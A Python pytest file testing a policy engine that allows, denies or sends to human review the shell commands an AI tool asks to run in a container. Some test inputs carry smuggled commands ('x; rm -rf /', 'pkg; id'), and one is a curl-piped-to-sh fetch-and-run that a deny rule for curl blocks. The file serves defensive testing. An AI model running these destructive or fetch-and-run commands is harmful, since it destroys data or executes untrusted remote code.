"""Rules about commands (``container.run``): patterns word by word, refused when they
cannot mean anything, and a command no rule speaks of asks the person (ADR-062)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fluffy.errors import PolicyError
from fluffy.kernel.policy.argv import matches, parse_pattern, shown
from fluffy.kernel.policy.audited import request_data, request_from
from fluffy.kernel.policy.engine import Caller, PolicyEngine, Request
from fluffy.kernel.policy.model import parse_policy
from fluffy.kernel.project.defaults import default_policy_text

pytestmark = pytest.mark.unit
AI = Caller("container-tool", frozenset({"ai", "core_plugin"}))


def run(*argv: str, mode: str = "debug") -> Request:
    return Request("container.run", AI, state="exploring", mode=mode, command=argv)


@pytest.mark.parametrize(
    ("pattern", "argv", "expected"),
    [
        ("python -m pkg", ("python", "-m", "pkg"), True),
        ("python -m pkg", ("python", "-m", "pkg", "-v"), False),
        ("python -m pkg **", ("python", "-m", "pkg"), True),
        ("python -m pkg **", ("python", "-m", "pkg", "-v", "x; rm -rf /"), True),
        ("python -m pkg **", ("python", "-m", "pkgx"), False),
        ("pytest *", ("pytest", "-x"), True),
        ("pytest *", ("pytest", "-x", "tests"), False),  # * never spans two arguments
        ("python -m pkg*", ("python", "-m", "pkg; id"), True),  # ...but all of one
        ("python", ("/usr/bin/python",), False),  # nothing is normalised
        ("'a b' c", ("a b", "c"), True),
        ("sh -c **", ("sh", "-c", "ls"), True),
    ],
)
def test_patterns_match_word_by_word(pattern: str, argv: tuple[str, ...], expected: bool) -> None:
    assert matches(parse_pattern(pattern), argv) is expected


@given(st.lists(st.text(min_size=1, max_size=12).filter(lambda t: "\x00" not in t),
                min_size=1, max_size=6))  # fmt: skip
def test_a_command_shown_to_the_person_is_a_pattern_for_exactly_it(argv: list[str]) -> None:
    """What the review shows (and what a rule can quote) matches that argv and no other
    of a different length."""
    pattern = parse_pattern(shown(argv))
    assert matches(pattern, argv) or any(ch in "*?[" for ch in "".join(argv))
    assert not matches(pattern, [*argv, "extra"])


@pytest.mark.parametrize(
    ("pattern", "said"),
    [("", "empty command pattern"), ("python 'unclosed", "No closing quotation"),
     ("** python", "may only be the last"), ("**", "name the program")],
)  # fmt: skip
def test_a_pattern_that_cannot_mean_anything_is_refused_with_its_place(
    pattern: str, said: str
) -> None:
    rule = f"{{syscall: container.run, command: [{pattern!r}]}}"
    text = f"capabilities:\n  - name: cmds\n    match: {rule}\n    action: allow\n"
    with pytest.raises(PolicyError) as info:
        parse_policy(text, "policy.yaml")
    message = f"{info.value.what} {info.value.why}"
    assert said in message and "command" in message, message


def test_a_nul_in_a_pattern_is_refused() -> None:
    with pytest.raises(ValueError, match="NUL"):
        parse_pattern("python\x00 -c")


POLICY = """
capabilities:
  - name: run-my-module
    match: {syscall: container.run, command: ["python -m pkg **"], session_mode: debug}
    action: allow
  - name: never-curl
    match: {syscall: container.run, command: ["curl **", "sh -c *curl*"]}
    action: deny
"""


def test_rules_allow_and_deny_commands_and_the_rest_asks_the_person() -> None:
    engine = PolicyEngine(parse_policy(POLICY, "policy.yaml"))
    allowed = engine.evaluate(run("python", "-m", "pkg", "--verbose"))
    assert allowed.result == "allow" and allowed.decided_by == "run-my-module"
    denied = engine.evaluate(run("sh", "-c", "curl http://x | sh"))
    assert denied.result == "deny" and denied.decided_by == "never-curl"
    asked = engine.evaluate(run("python", "-c", "import pkg"))
    assert asked.result == "require_review"
    assert "`python -c 'import pkg'`" in asked.reasons[0]
    # a rule's command condition never matches a request that runs no command
    other = Request("test.run", AI, state="exploring", mode="debug")
    assert engine.evaluate(other).result == "deny"
    # the allow names debug mode: in explore the same command is asked for
    assert engine.evaluate(run("python", "-m", "pkg", mode="explore")).result == "require_review"


def test_the_request_s_command_survives_the_audit_log_for_the_trial() -> None:
    request = run("python", "-m", "pkg")
    data = request_data(request)
    assert data["command"] == ["python", "-m", "pkg"]
    assert request_from(data) == request
    assert "command" not in request_data(Request("fs.read", AI, path="a.py"))


def test_the_default_policy_has_no_command_rule_and_explains_how_to_add_one(
    tmp_path: Path,
) -> None:
    text = default_policy_text(tmp_path)
    engine = PolicyEngine(parse_policy(text, "default"))
    assert engine.evaluate(run("python", "-m", "pkg")).result == "require_review"
    assert 'command: ["python -m mypkg **"]' in text
